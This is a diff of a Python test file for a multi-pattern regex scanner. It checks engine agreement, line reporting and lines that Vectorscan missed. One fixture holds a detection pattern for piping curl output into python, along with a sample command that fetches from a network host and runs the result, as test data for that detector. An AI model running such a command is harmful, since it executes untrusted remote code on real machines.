@@ -1,4 +1,4 @@
-"""Both engines must say exactly the same of every text, or a scan would depend on the computer it ran on."""
+"""The engine of a scan and each pattern by itself must say exactly the same of every text, and what Python says."""
 
 import re
 
@@ -23,14 +23,16 @@ PATTERNS = (
     Pattern("odd", r"é\w"),
     Pattern("high", r"[^a-z\n]{3}"),
     Pattern("end", r"[a-z]+;$"),
+    Pattern("repeated", r"b(?:é)?a|x\xe9\w", ignore_case=True),
 )
+ENGINES = pytest.mark.parametrize("by_itself", [False, True], ids=["scan", "by itself"])
 LETTERS = st.sampled_from([*"abfoqux QUX(;-@é1 2\t", "foo", "bar", "\n", "\n", "\r", "\r\n", "key:", "- ", "ba", "ab"])
 TEXTS = st.lists(LETTERS, max_size=60).map("".join).map(str.encode)
 BYTES = st.one_of(TEXTS, st.binary(max_size=40))
 
 
-def found(engine: str, files: list[tuple[str, bytes]], patterns=PATTERNS) -> dict[str, list[tuple[str, int]]]:
-    matches = compile(patterns, engine).scan(files, Silent())
+def found(files: list[tuple[str, bytes]], by_itself=False, patterns=PATTERNS) -> dict[str, list[tuple[str, int]]]:
+    matches = compile(patterns, by_itself=by_itself).scan(files, Silent())
     return {p.name: sorted((path, line) for path, line, _ in matches.of(p)) for p in patterns}
 
 
@@ -38,7 +40,7 @@ def found(engine: str, files: list[tuple[str, bytes]], patterns=PATTERNS) -> dic
 @given(st.lists(BYTES, max_size=5))
 def test_the_engines_agree(contents):
     files = [(f"file{i}", content) for i, content in enumerate(contents)]
-    assert found("hyperscan", files) == found("re2", files)
+    assert found(files) == found(files, by_itself=True)
 
 
 @settings(max_examples=100, deadline=None)
@@ -53,29 +55,31 @@ def test_the_engine_says_what_python_says_line_by_line(contents):
             for number, line in enumerate(content.split(b"\n"), 1):
                 if compiled.search(line):
                     expected[pattern.name].append((path, number))
-    assert found("hyperscan", files) == expected
+    assert found(files) == expected
 
 
-@pytest.mark.parametrize("engine", ["hyperscan", "re2"])
-def test_each_line_is_reported_once_with_its_text(engine):
-    matches = compile([PATTERNS[4]], engine).scan([("a", b"x\nfoo foo foo\n\nfoofoo"), ("b", b"foo")], Silent())
+@ENGINES
+def test_each_line_is_reported_once_with_its_text(by_itself):
+    matches = compile([PATTERNS[4]], by_itself=by_itself).scan(
+        [("a", b"x\nfoo foo foo\n\nfoofoo"), ("b", b"foo")], Silent()
+    )
     assert list(matches.of(PATTERNS[4])) == [("a", 2, "foo foo foo"), ("a", 4, "foofoo"), ("b", 1, "foo")]
 
 
-@pytest.mark.parametrize("engine", ["hyperscan", "re2"])
-def test_positions_hold_across_batches_and_large_files(engine):
+@ENGINES
+def test_positions_hold_across_batches_and_large_files(by_itself):
     files = [(f"f{i}", b"x\n" * 300_000 + b"needle here\n" + b"y" * (i * 7)) for i in range(5)]
     pattern = Pattern("n", "needle")
-    assert [(p, line) for p, line, _ in compile([pattern], engine).scan(files, Silent()).of(pattern)] == [
+    assert [(p, line) for p, line, _ in compile([pattern], by_itself=by_itself).scan(files, Silent()).of(pattern)] == [
         (f"f{i}", 300_001) for i in range(5)
     ]
 
 
-@pytest.mark.parametrize("engine", ["hyperscan", "re2"])
-def test_a_flood_in_one_file_does_not_hide_the_next(engine):
+@ENGINES
+def test_a_flood_in_one_file_does_not_hide_the_next(by_itself):
     pattern = Pattern("n", "needle")
     files = [("flood", b"needle\n" * 5000), ("next", b"\nneedle\n")]
-    hits = compile([pattern], engine).scan(files, Silent()).of(pattern)
+    hits = compile([pattern], by_itself=by_itself).scan(files, Silent()).of(pattern)
     assert len(hits) == MOST_LINES_PER_FILE + 1
     assert hits[-1][:2] == ("next", 2)
 
@@ -86,14 +90,14 @@ def test_a_long_line_is_cut():
     assert text == "a" * 300
 
 
-@pytest.mark.parametrize("engine", ["hyperscan", "re2"])
-def test_a_scan_stops_when_asked(engine):
+@ENGINES
+def test_a_scan_stops_when_asked(by_itself):
     class Stop(Silent):
         def check(self) -> None:
             raise Cancelled
 
     with pytest.raises(Cancelled):
-        compile(PATTERNS, engine).scan([("a", b"foo(\n" * 10_000)], Stop())
+        compile(PATTERNS, by_itself=by_itself).scan([("a", b"foo(\n" * 10_000)], Stop())
 
 
 @pytest.mark.parametrize(
@@ -128,10 +132,10 @@ def test_a_scan_stops_when_asked(engine):
         "[é]x",
     ],
 )
-@pytest.mark.parametrize("engine", ["hyperscan", "re2"])
-def test_what_is_not_safe_everywhere_is_refused_with_its_text(regex, engine):
+@ENGINES
+def test_what_is_not_safe_everywhere_is_refused_with_its_text(regex, by_itself):
     with pytest.raises(BadPattern) as caught:
-        compile([Pattern("ok", "fine"), Pattern("bad", regex)], engine)
+        compile([Pattern("ok", "fine"), Pattern("bad", regex)], by_itself=by_itself)
     assert repr(regex) in caught.value.message
 
 
@@ -139,12 +143,36 @@ def test_no_patterns_find_nothing():
     assert compile([]).scan([("a", b"x")], Silent()).engine
 
 
-def test_a_damaged_cache_is_compiled_anew(tmp_path, monkeypatch):
-    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
-    monkeypatch.setenv("HOME", str(tmp_path))
-    pattern = Pattern("n", "needle-for-the-cache")
-    compile([pattern], "hyperscan")
-    cached = list(tmp_path.rglob("*.hs"))
-    for file in cached:
-        file.write_bytes(b"0" * 64 + b"\nnonsense")
-    assert compile([pattern], "hyperscan").scan([("a", b"needle-for-the-cache")], Silent()).of(pattern)
+# Each of these was lost by Vectorscan 5.4.12, all three by one fault: in what it skips over, the first of two letters
+# that it looks for stands last (the library's issues 358 and 382).
+LOST = (
+    (
+        ("^[ \\t]*terminationGracePeriodSeconds:", '^[ \\t]*Name:"restore"'),
+        b'eCommand = cli.Command{\n\tName:"restore"',
+        2,
+    ),
+    (('^[ \\t]*(?:Name:"restore"|terminationGracePeriodSeconds:)',), b"x" * 40 + b'\n\tName:"restore"\n', 2),
+    ((r"curl[^\n]*\|[ \t]*python",), b"curl http://xxxx:8000/ 2>&1 | python", 1),
+)
+
+
+@ENGINES
+@pytest.mark.parametrize(("regexes", "text", "line"), LOST, ids=["two patterns", "one choice", "one pattern"])
+def test_lines_that_another_library_loses_are_found(by_itself, regexes, text, line):
+    patterns = [Pattern(str(i), regex) for i, regex in enumerate(regexes)]
+    assert found([("a", text)], by_itself, patterns)[patterns[-1].name] == [("a", line)]
+
+
+@ENGINES
+def test_a_pattern_is_found_wherever_in_a_file_its_line_lies(by_itself):
+    pattern = Pattern("n", r"^[ \t]*needle:[ \t]+\w+$")
+    for before in [*range(0, 70), *range(950, 1150)]:
+        files = [("a", b"x" * before + b"\n\tneedle: eye\n" + b"y" * 1500 + b"\nneedle: two")]
+        assert found(files, by_itself, [pattern])["n"] == [("a", 2), ("a", 4)], before
+
+
+@ENGINES
+def test_letters_outside_ascii_count_as_one_letter_for_what_repeats_them(by_itself):
+    patterns = [Pattern("one", "caf\u00e9? bar"), Pattern("byte", r"a\xe9b"), Pattern("fold", "\u00e9t\u00e9", True)]
+    files = [("a", "caf bar\ncaf\u00e9 bar\n\u00e9T\u00e9".encode()), ("b", b"a\xe9b")]
+    assert found(files, by_itself, patterns) == {"one": [("a", 1), ("a", 2)], "byte": [("b", 1)], "fold": [("a", 3)]}
